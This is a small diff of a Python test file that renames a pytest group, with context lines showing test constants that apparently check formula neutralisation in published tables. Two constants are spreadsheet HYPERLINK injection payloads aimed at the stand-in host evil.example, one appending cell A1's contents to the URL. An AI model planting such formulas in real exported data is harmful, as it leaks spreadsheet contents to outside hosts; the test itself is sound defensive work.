@@ -16,7 +16,7 @@ from trustcap.demo.writer import write_world
 from trustcap.publish import is_formula, published_tables
 from trustcap.settings import Settings
 
-pytestmark = pytest.mark.xdist_group("pipeline")
+pytestmark = pytest.mark.xdist_group("published_privacy")
 
 BRAND_HANDLE = '=HYPERLINK("http://evil.example/?"&A1,"AcmeHome")'
 CAMPAIGN_NAME = '=HYPERLINK("http://evil.example/c","Spring sale")'
